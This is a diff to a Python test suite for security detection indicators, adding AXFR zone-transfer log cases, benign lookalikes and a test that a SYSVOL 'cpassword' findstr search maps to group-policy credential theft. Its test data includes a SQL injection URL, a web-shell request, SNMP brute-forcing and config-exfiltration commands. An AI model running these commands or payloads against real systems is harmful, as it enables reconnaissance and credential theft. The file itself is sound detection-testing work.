@@ -266,6 +266,7 @@ POSITIVES = [
     ({"url": {"original": "/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"}}, "web-exploit-payload", "T1190"),
     ({"url": {"original": "/uploads/shell.php?cmd=whoami"}}, "web-shell-request", "T1505.003"),
     (cmd("dig @ns1.corp.example corp.example AXFR"), "dns-zone-transfer", "T1590.002"),
+    ({"message": "client 203.0.113.7#41234 (corp.example): zone transfer 'corp.example/AXFR/IN' denied"}, "dns-zone-transfer", "T1590.002"),
     (cmd("onesixtyone -c dict.txt 10.0.0.0/24"), "snmp-attack-tools", "T1602.001"),
     (cmd("snmpset -v2c -c private 10.0.0.1 1.3.6.1.4.1.9.9.96.1.1.1.1.2.111 i 1"), "network-config-pull", "T1602.002"),
     ({"message": "copy running-config tftp://203.0.113.9/r1.cfg"}, "network-config-pull", "T1602.002"),
@@ -361,6 +362,8 @@ NEGATIVES = [
     ({"url": {"original": "/docs/${version}/index.html"}}, ["log4shell", "log4shell-obfuscated"]),
     ({"url": {"original": "/api/v1/exec?command=status"}}, ["web-shell-request"]),
     (cmd("dig corp.example MX"), ["dns-zone-transfer"]),
+    ({"message": "client 10.0.0.3#53012 (corp.example): transfer of 'corp.example/IN': AXFR started"}, ["dns-zone-transfer"]),
+    (cmd("echo Meeting at 10:30 in room 4 > notes.txt"), ["at-job"]),
     (cmd("snmpget -v2c -c public 10.0.0.1 sysUpTime.0"), ["snmp-attack-tools", "snmp-walk"]),
     (cmd("ping -c 4 10.0.0.1"), ["icmp-tunnel"]),
     (cmd("terraform plan -out tfplan"), []),
@@ -406,6 +409,13 @@ def test_indicator_stays_quiet_on_benign_lookalike(indicators, alert, quiet):
 def test_routine_admin_fires_nothing_strong(indicators, line):
     strong = [h for h in hits_for(indicators, cmd(line)) if h.confidence >= EXTEND_BAR]
     assert not strong, [h.indicator_id for h in strong]
+
+
+def test_gpp_password_search_is_group_policy_preferences_only(indicators):
+    line = "findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml"
+    techniques = {t for h in hits_for(indicators, cmd(line)) for t in h.techniques}
+    assert "T1552.006" in techniques
+    assert "T1552.001" not in techniques
 
 
 def test_every_indicator_technique_is_active_in_the_bundled_catalog(catalog, indicators):
